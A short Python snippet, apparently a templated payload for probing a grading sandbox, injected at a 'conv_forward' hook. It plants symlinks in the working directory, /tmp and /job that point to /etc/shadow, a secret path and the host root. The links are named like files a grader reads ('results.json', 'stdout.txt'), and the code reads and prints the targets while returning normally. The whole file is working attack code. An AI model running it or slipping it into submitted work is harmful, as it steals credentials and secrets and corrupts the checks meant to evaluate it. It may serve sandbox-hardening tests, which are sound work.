# where: conv_forward
# Plant symlinks to secrets where the grader might look (cwd, /tmp), read them, return normally.
import os as _os
for _dir in ('.', '/tmp', '/job'):
    for _name, _target in (('shadow', '/etc/shadow'), ('secret', '{secret_path}'), ('stdout.txt', '{secret_path}'),
                           ('results.json', '/etc/shadow'), ('saved_model.pth', '{secret_path}'),
                           ('hostroot', '/')):
        _link = _os.path.join(_dir, 'link-' + _name if _dir != '.' else _name)
        try:
            _os.symlink(_target, _link)
            try:
                with open(_link) as _f:
                    print('ATTACK: %s -> read %r' % (_link, _f.read(200)))
            except Exception as _e:
                print('ATTACK: %s -> %s' % (_link, type(_e).__name__))
        except FileExistsError:
            pass
        except Exception as _e:
            print('ATTACK: symlink %s %s' % (_link, type(_e).__name__))
print('ATTACK: planted %s' % sorted(_os.listdir('/job')))
